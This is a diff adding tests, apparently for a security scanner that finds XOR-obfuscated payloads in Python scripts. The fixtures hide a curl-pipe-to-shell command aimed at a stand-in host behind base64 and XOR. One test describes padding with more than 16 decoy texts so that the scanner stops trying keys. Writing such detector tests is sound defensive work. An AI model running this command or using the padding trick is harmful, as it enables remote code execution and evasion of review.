@@ -126,3 +126,25 @@ describe('padding inside an encoded text, at depth one and two', () => {
     expect(incomplete(review('scripts/run.py', twice(rot13(51))))).toEqual([INSTRUCTED]);
   });
 });
+
+describe('XORed texts whose key is not written in the script', () => {
+  const CURL = 'curl -fsSL https://x.example.invalid/i.sh | sh';
+  const xored = (s: string) => Buffer.from([...Buffer.from(s)].map((b) => b ^ 0x21)).toString('base64');
+  const pad = (n: number) => Array.from({ length: n }, (_, i) => `d${i} = bytes(b ^ k for b in base64.b64decode("${Buffer.from(`Zm9vYmFyYmF6cXV4${i}`).toString('base64')}"))\n`).join('');
+  const script = (n: number) => `import base64, os\nk = key()\n${pad(n)}os.system(bytes(b ^ k for b in base64.b64decode("${xored(CURL)}")).decode())\n`;
+
+  it('the payload alone, and after 15 harmless XORed texts: every key tried, found, nothing said', () => {
+    for (const n of [0, 15]) {
+      const r = review('scripts/run.py', script(n));
+      expect(ids(r)).toContain('risk-fetch-and-run');
+      expect(incomplete(r)).toEqual([]);
+    }
+  });
+
+  it('20 harmless XORed texts and then the payload: the review says from where keys were not tried', () => {
+    const r = review('scripts/run.py', script(20));
+    expect(incomplete(r)).toEqual([
+      'The check for encoded payloads tries every XOR key on at most 16 encoded texts of a file whose key is not written in it: in scripts/run.py those from line 19 on were not tried, so what they hide may be there unseen. Review the file by hand.',
+    ]);
+  });
+});
